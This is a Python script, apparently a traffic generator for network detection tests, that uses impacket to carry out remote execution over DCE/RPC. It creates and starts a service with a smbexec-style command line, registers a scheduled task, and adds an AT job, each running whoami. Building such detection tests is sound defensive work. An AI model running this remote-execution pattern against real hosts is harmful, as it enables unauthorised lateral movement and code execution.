# stage-rpccli.py HOST PORT MODE: impacket's DCE/RPC client over
# ncacn_ip_tcp (stage-detections.sh's rpc_tcp scenarios). MODE exec: the
# endpoint mapper asked for svcctl (135), then svcctl OpenSCManagerW,
# CreateServiceW and StartServiceW, ITaskSchedulerService
# SchRpcRegisterTask and ATSvc NetrJobAdd on PORT, as a remote execution
# over TCP does. MODE list: the endpoint mapper asked for three interfaces,
# svcctl OpenSCManagerW and EnumServicesStatusW (an administrator listing
# services: nothing created).
import sys

from impacket.dcerpc.v5 import atsvc, epm, scmr, transport, tsch

host, port, mode = sys.argv[1], sys.argv[2], sys.argv[3]


def conn(uuid):
    t = transport.DCERPCTransportFactory('ncacn_ip_tcp:%s[%s]' % (host, port))
    d = t.get_dce_rpc()
    d.connect()
    d.bind(uuid)
    return d


def tryit(f, *a, **k):
    try:
        return f(*a, **k)
    except Exception as e:  # the responder's zeros are not always a valid answer
        print(type(e).__name__, str(e)[:80])


for u in (scmr.MSRPC_UUID_SCMR, tsch.MSRPC_UUID_TSCHS, atsvc.MSRPC_UUID_ATSVC)[:1 if mode == 'exec' else 3]:
    tryit(epm.hept_map, host, u, protocol='ncacn_ip_tcp')
d = conn(scmr.MSRPC_UUID_SCMR)
h = b'\x01' * 20
tryit(scmr.hROpenSCManagerW, d)
if mode == 'list':
    tryit(scmr.hREnumServicesStatusW, d, h)
    sys.exit(0)
tryit(scmr.hRCreateServiceW, d, h, 'BTOBTO\x00', 'BTOBTO\x00', lpBinaryPathName='%COMSPEC% /Q /c echo whoami > \\\\127.0.0.1\\C$\\__output 2>&1\x00')
tryit(scmr.hRStartServiceW, d, h)
d = conn(tsch.MSRPC_UUID_TSCHS)
xml = '<?xml version="1.0" encoding="UTF-16"?><Task version="1.2"><Actions><Exec><Command>cmd.exe</Command><Arguments>/C whoami</Arguments></Exec></Actions></Task>'
tryit(tsch.hSchRpcRegisterTask, d, '\\QzTask\x00', xml + '\x00', tsch.TASK_CREATE, tsch.NULL, tsch.TASK_LOGON_NONE)
d = conn(atsvc.MSRPC_UUID_ATSVC)
job = atsvc.AT_INFO()
job['JobTime'], job['DaysOfMonth'], job['DaysOfWeek'], job['Flags'] = 0, 0, 0, 0
job['Command'] = 'cmd /c whoami\x00'
tryit(atsvc.hNetrJobAdd, d, tsch.NULL, job)
